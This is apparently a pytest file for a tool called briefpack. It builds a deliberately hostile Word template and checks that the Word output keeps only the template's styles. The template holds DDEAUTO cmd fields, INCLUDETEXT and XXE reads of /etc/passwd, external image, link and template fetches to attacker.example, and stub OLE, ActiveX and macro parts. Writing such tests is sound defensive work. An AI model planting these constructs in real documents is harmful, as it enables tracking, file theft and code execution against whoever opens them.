"""A company Word template gives the Word copy its look, never anything active (issue 25)."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import docx as python_docx
from docx.enum.style import WD_STYLE_TYPE
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import parse_xml
from lxml import etree
from PIL import Image

from conftest import MINIMAL_PACK, run

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NAMESPACES = (
    f'xmlns:w="{W}" xmlns:r="{R}" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
)
#: The fields briefpack writes itself: page numbers, the contents and its page references.
OWN_FIELDS = {"PAGE", "NUMPAGES", "PAGEREF", "TOC"}
PACK_WITH_A_LINK = MINIMAL_PACK.replace(
    "question: Where are we going?", "question: See [the memo](https://example.com/memo)."
)


def xml(text: str) -> object:
    return parse_xml(text.replace("NS", NAMESPACES, 1))


def simple_field(instruction: str, shown: str) -> object:
    return xml(
        f"<w:fldSimple NS w:instr='{instruction}'><w:r><w:t>{shown}</w:t></w:r></w:fldSimple>"
    )


def complex_field(paragraph: object, instruction: str, shown: str, inner: str = "") -> None:
    """Append ``{ instruction [inner field] }`` showing ``shown``, as Word writes it."""
    runs = [
        '<w:r NS><w:fldChar w:fldCharType="begin"/></w:r>',
        f'<w:r NS><w:instrText xml:space="preserve">{instruction} "</w:instrText></w:r>',
    ]
    if inner:
        runs += [
            '<w:r NS><w:fldChar w:fldCharType="begin"/></w:r>',
            f"<w:r NS><w:instrText>{inner}</w:instrText></w:r>",
            '<w:r NS><w:fldChar w:fldCharType="separate"/></w:r>',
            "<w:r NS><w:t>inner-result</w:t></w:r>",
            '<w:r NS><w:fldChar w:fldCharType="end"/></w:r>',
        ]
    runs += [
        '<w:r NS><w:instrText>"</w:instrText></w:r>',
        '<w:r NS><w:fldChar w:fldCharType="separate"/></w:r>',
        f"<w:r NS><w:t>{shown}</w:t></w:r>",
        '<w:r NS><w:fldChar w:fldCharType="end"/></w:r>',
    ]
    for run_xml in runs:
        paragraph._p.append(xml(run_xml))  # type: ignore[attr-defined]


def hostile_template(path: Path) -> None:
    """A template with everything active a .docx can carry, around a style worth keeping."""
    document = python_docx.Document()
    document.styles["Heading 2"].font.name = "Georgia"
    document.styles.add_style("House Note", WD_STYLE_TYPE.PARAGRAPH).font.name = "Garamond"
    package = document.part.package
    document.settings.odd_and_even_pages_header_footer = True
    section = document.sections[0]
    section.different_first_page_header_footer = True

    # The default header: briefpack rewrites its first paragraph, not the others.
    header = section.header
    header_part = header.part
    paragraph = header.add_paragraph()
    paragraph._p.append(
        simple_field('INCLUDEPICTURE "http://attacker.example/track.png" \\d', "logo")
    )
    paragraph._p.append(simple_field('INCLUDETEXT "/etc/passwd"', "included"))
    payload = Part(
        PackURI("/word/embeddings/payload.bin"),
        "application/vnd.openxmlformats-officedocument.oleObject",
        b"EMBEDDED-PAYLOAD",
        package,
    )
    ole = header_part.relate_to(payload, RT.OLE_OBJECT)
    paragraph._p.append(
        xml(f'<w:r NS><w:object><o:OLEObject ProgID="Package" r:id="{ole}"/></w:object></w:r>')
    )
    control = Part(
        PackURI("/word/activeX/activeX1.xml"),
        "application/vnd.ms-office.activeX+xml",
        b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
        package,
    )
    control_id = header_part.relate_to(control, RT.CONTROL)
    paragraph._p.append(xml(f'<w:r NS><w:object><w:control r:id="{control_id}"/></w:object></w:r>'))
    linked = header_part.relate_to("http://attacker.example/pixel.png", RT.IMAGE, is_external=True)
    paragraph._p.append(
        xml(f'<w:r NS><w:drawing><wp:inline><a:graphic><a:graphicData><a:blip r:link="{linked}"/>'
            "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>")
    )  # fmt: skip
    paragraph._p.append(
        xml('<w:r NS><w:pict><v:shape><v:imagedata src="http://attacker.example/v.png" '
            'o:href="file:///etc/passwd"/></v:shape></w:pict></w:r>')
    )  # fmt: skip

    # The even-page header, which briefpack leaves as it is: a nested field, a
    # link out and a picture of its own, which may stay.
    even = section.even_page_header.paragraphs[0]
    complex_field(even, 'INCLUDETEXT "/etc/passwd', "even-result", inner='DDEAUTO cmd "/c calc"')
    link = even.part.relate_to("http://attacker.example/out", RT.HYPERLINK, is_external=True)
    even._p.append(
        xml(f'<w:hyperlink NS r:id="{link}"><w:r><w:t>house link</w:t></w:r></w:hyperlink>')
    )
    logo = path.parent / "house-logo.png"
    Image.new("RGB", (4, 4), "navy").save(logo)
    even.add_run().add_picture(str(logo))

    footer = section.first_page_footer.add_paragraph()
    complex_field(footer, 'DDEAUTO "cmd"', "dde-result")

    # The document part: macros, key customisations, an imported chunk.
    for name, content_type, reltype in (
        ("/word/vbaProject.bin", "application/vnd.ms-office.vbaProject",
         "http://schemas.microsoft.com/office/2006/relationships/vbaProject"),
        ("/word/customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml",
         "http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations"),
        ("/word/afchunk.mht", "message/rfc822", RT.A_F_CHUNK),
    ):  # fmt: skip
        rel_id = document.part.relate_to(
            Part(PackURI(name), content_type, b"<x/>", package), reltype
        )
    document.element.body.append(xml(f'<w:altChunk NS r:id="{rel_id}"/>'))
    document.add_paragraph()._p.append(simple_field('INCLUDETEXT "C:\\\\secret.txt"', "body"))

    # Settings: a template fetched from the web when the copy opens.
    settings_part = document.part._settings_part
    template = settings_part.relate_to(
        "http://attacker.example/template.dotm", f"{R}/attachedTemplate", is_external=True
    )
    document.settings.element.append(xml(f'<w:attachedTemplate NS r:id="{template}"/>'))
    document.settings.element.append(
        xml('<w:docVars NS><w:docVar w:name="x" w:val="y"/></w:docVars>')
    )
    document.save(str(path))


def read_parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def instructions(parts: dict[str, bytes]) -> list[str]:
    """Every field instruction in every XML part, complex fields' pieces joined."""
    found = []
    for name, content in parts.items():
        if not name.endswith(".xml"):
            continue
        root = etree.fromstring(content)
        found += [node.get(f"{{{W}}}instr") for node in root.iter(f"{{{W}}}fldSimple")]
        pieces = [node.text or "" for node in root.iter(f"{{{W}}}instrText")]
        found += [piece for piece in pieces if piece.strip()]
    return found


def build(folder: Path, *extra: str) -> bytes:
    code, _, err = run(
        "build", str(folder / "pack.yaml"), "-o", str(folder / "out"), "-f", "docx",
        "--no-sessions", *extra,
    )  # fmt: skip
    assert code == 0, err
    return (folder / "out" / "pack" / "pack.docx").read_bytes()


def test_a_hostile_template_gives_its_styles_and_nothing_active(tmp_path: Path) -> None:
    hostile_template(tmp_path / "house.docx")
    (tmp_path / "pack.yaml").write_text(
        PACK_WITH_A_LINK + "options:\n  reference_docx: house.docx\n", encoding="utf-8"
    )
    data = build(tmp_path)
    parts = read_parts(data)

    names = " ".join(parts)
    for banned in ("embeddings", "activeX", "vbaProject", "customizations", "afchunk"):
        assert banned not in names
    everything = b"".join(parts.values())
    for trace in (b"attacker.example", b"passwd", b"secret", b"DDEAUTO", b"EMBEDDED-PAYLOAD"):
        assert trace not in everything
    for banned_tag in (b"attachedTemplate", b"altChunk", b"w:object", b"docVars"):
        assert banned_tag not in everything
    # The only ways out are briefpack's own links, from the body.
    external = [
        (name, target)
        for name, content in parts.items()
        if name.endswith(".rels")
        for target, mode in re.findall(rb'Target="([^"]*)"( TargetMode="External")?', content)
        if mode
    ]
    assert external == [("word/_rels/document.xml.rels", b"https://example.com/memo")]
    assert {field.split()[0] for field in instructions(parts)} <= OWN_FIELDS
    # A field leaves the text it showed; a link its words; a picture of the template stays.
    assert b"even-result" in everything
    assert b"dde-result" in everything
    assert b"house link" in everything
    assert any(name.startswith("word/media/") for name in parts)

    document = python_docx.Document(io.BytesIO(data))
    assert document.styles["Heading 2"].font.name == "Georgia"
    assert document.styles["House Note"].font.name == "Garamond"
    assert document.settings.element.find(f"{{{W}}}updateFields") is not None


def test_the_theme_reference_docx_is_used_when_the_pack_names_none(tmp_path: Path) -> None:
    theme = tmp_path / "house"
    theme.mkdir()
    template = python_docx.Document()
    template.styles["Heading 2"].font.name = "Georgia"
    template.save(str(theme / "house.docx"))
    (theme / "theme.yaml").write_text("reference_docx: house.docx\n", encoding="utf-8")
    (tmp_path / "pack.yaml").write_text(
        MINIMAL_PACK + "options:\n  theme: house\n", encoding="utf-8"
    )
    document = python_docx.Document(io.BytesIO(build(tmp_path)))
    assert document.styles["Heading 2"].font.name == "Georgia"

    # The pack's own, and then the command line's, come before the theme's.
    own = python_docx.Document()
    own.styles["Heading 2"].font.name = "Garamond"
    own.save(str(tmp_path / "own.docx"))
    (tmp_path / "pack.yaml").write_text(
        MINIMAL_PACK + "options:\n  theme: house\n  reference_docx: own.docx\n", encoding="utf-8"
    )
    document = python_docx.Document(io.BytesIO(build(tmp_path)))
    assert document.styles["Heading 2"].font.name == "Garamond"
    given = python_docx.Document()
    given.styles["Heading 2"].font.name = "Courier New"
    given.save(str(tmp_path / "given.docx"))
    data = build(tmp_path, "--reference-docx", str(tmp_path / "given.docx"))
    assert python_docx.Document(io.BytesIO(data)).styles["Heading 2"].font.name == "Courier New"


def test_a_template_part_with_entities_gives_well_formed_parts_without_them(
    tmp_path: Path,
) -> None:
    python_docx.Document().save(str(tmp_path / "plain.docx"))
    doctype = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    with (
        zipfile.ZipFile(tmp_path / "plain.docx") as source,
        zipfile.ZipFile(tmp_path / "house.docx", "w") as target,
    ):
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename in ("word/theme/theme1.xml", "word/styles.xml"):
                # The entity inside the root's first child's text, after the declaration.
                start = content.index(b"?>") + 2
                close = content.index(b">", content.index(b"<", start) + 1) + 1
                content = (
                    content[:start] + doctype + content[start:close] + b"&e;" + content[close:]
                )
            target.writestr(item, content)
    (tmp_path / "pack.yaml").write_text(
        MINIMAL_PACK + "options:\n  reference_docx: house.docx\n", encoding="utf-8"
    )
    parts = read_parts(build(tmp_path))
    for name in ("word/theme/theme1.xml", "word/styles.xml"):
        # A plain parser: an entity left without its declaration is an error.
        etree.fromstring(parts[name], etree.XMLParser(resolve_entities=False, load_dtd=False))
        assert b"DOCTYPE" not in parts[name]
        assert b"&e;" not in parts[name]
